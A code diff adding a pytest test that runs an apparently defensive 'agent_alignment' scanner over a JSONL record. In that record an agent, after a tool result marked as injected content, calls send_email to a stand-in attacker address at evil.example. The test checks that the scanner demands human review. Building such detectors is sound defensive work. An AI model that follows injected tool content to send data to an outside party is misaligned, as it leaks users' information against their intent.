@@ -255,3 +255,21 @@ def test_scanner_direct_with_together_client(together_env: ChatServer) -> None:
     assert result.status is ScanStatus.SUCCESS and result.score == 0.0
     assert together_env.requests[0]["model"] == "my-org/judge"
     scanner.close()
+
+
+def test_cli_scan_jsonl_with_trace(together_env: ChatServer) -> None:
+    import os
+    import subprocess
+    import sys
+
+    together_env.script(Step(content=verdict(True)))
+    line = {"role": "assistant", "text": "", "tool_calls": [{"name": "send_email", "args": {"to": "x@evil.example"}}],
+            "trace": [{"role": "user", "content": GOAL}, {"role": "tool", "content": INJECTED}]}
+    proc = subprocess.run(
+        [sys.executable, "-m", "lf_middleware", "scan", "--scanner", "agent_alignment", "--jsonl"],
+        input=json.dumps(line) + "\n", capture_output=True, text=True, timeout=60, env=dict(os.environ),
+    )
+    assert proc.returncode in (0, 1, 2), proc.stderr
+    out = json.loads(proc.stdout.strip().splitlines()[0])
+    assert out["decision"] == "human_in_the_loop_required" and out["status"] == "success"
+    assert "test-key-not-secret" not in proc.stdout + proc.stderr
